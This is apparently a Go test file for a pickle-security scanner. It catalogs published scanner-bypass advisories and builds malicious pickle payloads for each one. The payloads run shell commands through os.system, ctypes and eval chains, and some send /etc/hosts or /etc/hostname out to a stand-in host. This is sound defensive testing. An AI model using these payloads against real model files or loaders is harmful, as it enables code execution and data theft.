package scantest

import "strings"

// calledByAdvisory are published bypasses of scanners that come down to one name that a list lacked, and that the pickle calls.
const calledByAdvisory = `
	CVE-2025-1716 pip.main
	CVE-2025-10157,GHSA-q77w-mwjj-7mqx,GHSA-f7qq-56ww-84cr asyncio.unix_events:_UnixSubprocessTransport._start
	GHSA-g38g-8gr9-h9xp uuid._get_command_stdout
	GHSA-5hwf-rc88-82xm _osx_support._read_output
	GHSA-5hwf-rc88-82xm _aix_support._read_cmd_output
	GHSA-g38g-8gr9-h9xp _pyrepl.pager:pipe_pager
	GHSA-g38g-8gr9-h9xp imaplib.IMAP4_stream
	GHSA-g38g-8gr9-h9xp test.support.script_helper:assert_python_ok
	GHSA-g38g-8gr9-h9xp codeop.compile_command
	GHSA-g38g-8gr9-h9xp py_compile.compile
	GHSA-r8g5-cgf2-4m4m,GHSA-rrxm-2pvv-m66x numpy.f2py.crackfortran:getlincoef
	GHSA-3329-ghmp-jmv5 numpy.f2py.crackfortran:myeval
	GHSA-cffc-mxrf-mhh4 numpy.f2py.crackfortran:param_eval
	GHSA-6556-fwc2-fg2p numpy.f2py.crackfortran:_eval_length
	GHSA-4675-36f9-wf6r ctypes.CDLL
	GHSA-vqmv-47xg-9wpr,GHSA-hgrh-qx5j-jfwx pty.spawn
	GHSA-m273-6v24-x4m4 distutils.file_util:write_file
	GHSA-xp4f-hrf8-rxw7 ensurepip._run_pip
	GHSA-49gj-c84q-6qm9,GHSA-p523-jq9w-64x9 cProfile.run
	GHSA-9w88-8rmg-7g2p cProfile.runctx
	GHSA-7wx9-6375-f5wh profile.run
	GHSA-x696-vm39-cp64 profile:Profile.run
	GHSA-6vqj-c2q5-j97w profile:Profile.runctx
	GHSA-5qwp-399c-mjwf trace:Trace.run
	GHSA-g344-hcph-8vgg trace:Trace.runctx
	GHSA-fqq6-7vqf-w3fg doctest.debug_script
	GHSA-cj3c-v495-4xqh code:InteractiveInterpreter.runcode
	GHSA-m869-42cg-3xwr idlelib.autocomplete:AutoComplete.get_entity
	GHSA-j343-8v2j-ff7w idlelib.autocomplete:AutoComplete.fetch_completions
	GHSA-3gf5-cxq9-w223 idlelib.calltip:Calltip.fetch_tip
	GHSA-9xph-j2h6-g47v idlelib.calltip:get_entity
	GHSA-3vg9-h568-4w9m idlelib.debugobj:ObjectTreeItem.SetText
	GHSA-6w4w-5w54-rjvr idlelib.pyshell:ModifiedInterpreter.runcode
	GHSA-7cq8-mj8x-j263 idlelib.pyshell:ModifiedInterpreter.runcommand
	GHSA-8r4j-24qv-fmq9 idlelib.run:Executive.runcode
	GHSA-f54q-57x4-jg88 lib2to3.pgen2.grammar:Grammar.loads
	GHSA-p9w7-82w4-7q8m lib2to3.pgen2.pgen:ParserGenerator.make_label
	GHSA-4r9r-ch6f-vxmx torch.utils.bottleneck.__main__:run_autograd_prof
	GHSA-4whj-rm5r-c2v8 torch.utils.bottleneck.__main__:run_cprofile
	GHSA-f745-w6jp-hpxx torch.utils.collect_env:run
	GHSA-jhph-76pp-mggw torch.utils.collect_env:run_and_read_all
	GHSA-86cj-95qr-2p4f torch._dynamo.guards:GuardBuilder.get
	GHSA-f4x7-rfwp-v3xw torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression
	GHSA-vr7h-p6mm-wpmh torch.jit.unsupported_tensor_ops:execWrapper
	GHSA-wfq2-52f7-7qvj runpy.run_path
	GHSA-wfq2-52f7-7qvj runpy.run_module
	GHSA-q5qq-mvfm-j35x multiprocessing.util:spawnv_passfds
	GHSA-m6fh-58r7-x697 _posixsubprocess.fork_exec
	GHSA-m6fh-58r7-x697 site.addsitedir
	GHSA-m6fh-58r7-x697 atexit.register
	GHSA-6ggj-6f2q-f7mx _interpreters.run_string
	GHSA-6ggj-6f2q-f7mx _xxsubinterpreters.run_string
	GHSA-5cxw-w2xg-2m8h platform._syscmd_file
	GHSA-r48f-3986-4f9c linecache.getline
	GHSA-83pf-v6qq-pwmr ftplib.FTP
	GHSA-mhc9-48gj-9gp3 smtplib.SMTP
	GHSA-mhc9-48gj-9gp3 sqlite3.connect
	GHSA-mhc9-48gj-9gp3 signal.signal
	GHSA-mhc9-48gj-9gp3 socketserver.TCPServer
	GHSA-wccx-j62j-r448,GHSA-fphw-536r-4p88 _pickle.loads
	GHSA-pc6j-px3p-rrj4 doctest.debug_src
	GHSA-pc6j-px3p-rrj4 unittest.mock:_importer
	GHSA-pc6j-px3p-rrj4 unittest.mock:_dot_lookup
	GHSA-pc6j-px3p-rrj4 test.support.import_helper:import_module
	GHSA-9726-w42j-3qjr _io.FileIO
	GHSA-9726-w42j-3qjr urllib.request:urlopen
	GHSA-m7j5-r2p5-c39r logging.FileHandler
`

// pickleAdvisories are the streams of published bypasses, by the advisory's number: single names, and those that did more.
func pickleAdvisories() []Case {
	var cases []Case
	for line := range strings.Lines(calledByAdvisory) {
		ids, name, ok := strings.Cut(strings.TrimSpace(line), " ")
		if !ok {
			continue
		}
		module, function, ok := strings.Cut(name, ":")
		if !ok {
			i := strings.LastIndexByte(name, '.')
			module, function = name[:i], name[i+1:]
		}
		cases = append(cases, evilPickle("advisory "+ids+": "+module+"."+function, pk4(pkCall(pkStack(module, function), pkStr("id")))))
	}
	return append(cases, pickleAdvisoryChains()...)
}

// pickleAdvisoryChains are bypasses that took more than a name.
func pickleAdvisoryChains() []Case {
	getattr := pkStack("builtins", "getattr")
	id := pkStr("id")
	imported := pkCall(pkStack("builtins", "__import__"), pkStr("os"))
	inner := pk4(pkSystem())
	advisory := func(name string, content []byte) Case { return evilPickle("advisory "+name, content) }
	return []Case{
		advisory("CVE-2025-10155,GHSA-jgw4-cr84-mqxg: a pickle under a name of torch", pk4(pkSystem())),
		advisory("GHSA-vvpj-8cmc-gx39: resolve_name reaches anything", pk4(pkCall(pkCall(pkStack("pkgutil", "resolve_name"), pkStr("os:system")), id))),
		advisory("GHSA-84r2-jw7c-4r5q,GHSA-5hvc-6wx8-mvv4: locate gives the function", pk4(pkCall(pkCall(pkStack("pydoc", "locate"), pkStr("os.system")), id))),
		advisory("GHSA-84r2-jw7c-4r5q: locate and methodcaller", pk4(pkCall(pkCall(pkStack("operator", "methodcaller"), pkStr("system"), id), pkCall(pkStack("pydoc", "locate"), pkStr("os"))))),
		advisory("GHSA-46h3-79wf-xr6c: _operator.attrgetter of an imported module",
			[]byte("c_operator\nattrgetter\n(Vsystem\ntR(cbuiltins\n__import__\n(Vos\ntRtR(Vid\ntR.")),
		advisory("GHSA-955r-x9j8-7rhh: _operator.methodcaller, by way of the memo",
			[]byte("cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nVid\ntR(g0\ntR.")),
		advisory("GHSA-9gvj-pp9x-gcfr: operands of STACK_GLOBAL at the very beginning, as STRING", []byte("S'os'\nS'system'\n\x93S'id'\n\x85R.")),
		advisory("GHSA-9gvj-pp9x-gcfr: a memo entry that is missing stops whoever lists names", []byte("\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.")),
		advisory("GHSA-9gvj-pp9x-gcfr: a module that is a number stops whoever lists names", []byte("\x80\x04cos\nsystem\nVid\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.")),
		advisory("GHSA-vv6j-3g6g-2pvj: ConfigModule.load_config unpickles bytes",
			pk4(pkCall(pkStack("torch.utils._config_module", "ConfigModule.load_config"), pkBytes(inner)))),
		advisory("GHSA-h3qp-7fh3-f8h4: a decoder of data pipes unpickles bytes",
			pk4(pkCall(pkStack("torch.utils.data.datapipes.utils.decoder", "basichandlers"), pkStr("pkl"), pkBytes(inner)))),
		advisory("GHSA-565g-hwwr-4pp3: marshal.loads and FunctionType", pk4(pkCall(pkCall(pkStack("types", "FunctionType"),
			pkCall(pkStack("marshal", "loads"), pkBytes([]byte("c"))), "}")))),
		advisory("GHSA-r7v6-mfhq-g3m2,GHSA-mxhj-88fx-4pcv: OBJ is a call", []byte("(cpty\nspawn\nS'id'\no.")),
		advisory("GHSA-mhc9-48gj-9gp3: BUILD behind REDUCE uses its result", pk4(pkCall(pkStack("smtplib", "SMTP"), pkStr("127.0.0.1"), "K\x19")+"}"+pkStr("x")+"K\x01sb")),
		advisory("GHSA-h4rm-mm56-xf63: built-in functions are imports, too", []byte("cbuiltins\n__import__\nS'os'\n\x85Rp0\n0cbuiltins\ngetattr\ng0\nS'system'\n\x86Rp1\n0g1\nS'id'\n\x85R.")),
		advisory("GHSA-5hvc-6wx8-mvv4: a function of a C library", pk4(pkCall(pkCall(getattr, pkCall(pkStack("ctypes", "CDLL"), pkStr("libc.so.6")), pkStr("system")), pkBytes([]byte("id"))))),
		advisory("GHSA-q5qq-mvfm-j35x: getattr of an imported module", pk4(pkCall(pkCall(getattr, pkCall(pkStack("importlib", "import_module"), pkStr("os")), pkStr("system")), id))),
		advisory("GHSA-q5qq-mvfm-j35x: a method of an interpreter", pk4(pkCall(pkCall(getattr, pkCall(pkStack("code", "InteractiveInterpreter")), pkStr("runsource")), id))),
		advisory("GHSA-5j3x-jp52-966f: a dotted name by STACK_GLOBAL", pk4(pkCall(pkStack("logging", "os.system"), id))),
		advisory("GHSA-r48f-3986-4f9c: what was read goes out by a name of a host", pk4(pkCall(pkStack("ssl", "get_server_certificate"),
			pkTuple(pkCall(pkStack("linecache", "getline"), pkStr("/etc/hostname"), "K\x01"), "M\xbb\x01")))),
		advisory("GHSA-pc6j-px3p-rrj4: modules and attributes by what tests use", pk4(pkCall(pkCall(pkStack("test.support", "get_attribute"),
			pkCall(pkStack("test.support.import_helper", "import_module"), pkStr("os")), pkStr("system")), id))),
		advisory("GHSA-x843-g5mx-g377,CVE-2025-71373: methodcaller of an imported module", pk4(pkCall(pkCall(pkStack("operator", "methodcaller"),
			pkStr("system"), id), pkCall(pkStack("importlib", "import_module"), pkStr("os"))))),
		advisory("GHSA-9726-w42j-3qjr: a file goes out by the address of a page", pk4(pkCall(pkStack("urllib.request", "urlopen"), pkStr("http://192.0.2.1/"),
			pkCall(pkStack("_io", "FileIO"), pkStr("/etc/hosts"))))),
		advisory("GHSA-97f8-7cmv-76j2: the magic number of a checkpoint is evaluated", []byte("\x80\x02cbuiltins\neval\n"+pkStr("0x1950a86a20f9469cfc6c")+"\x85R."+
			"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02].\x80\x02"+pkSystem()+".")),
		evilPickle("advisory GHSA-9m3x-qqw2-h32h: a function by cloudpickle, which hides what it calls", []byte(cloudCalled)),
		advisory("CVE-2025-1889: a file that a torch loader is told to open", pk4(pkCall(pkStack("torch", "load"), pkStr("config.json")))),
		advisory("Sour Pickles (2011): globals, compile, eval, apply", []byte("c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"+
			"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n.")),
		advisory("nullifAI: a payload in front of a broken instruction", []byte("cposix\nsystem\n(S'id'\ntR\xff\xff\xff\xff")),
		advisory("GHSA-46h3-79wf-xr6c: a module by __import__ and getattr", pk4(pkCall(pkCall(getattr, imported, pkStr("system")), id))),
	}
}
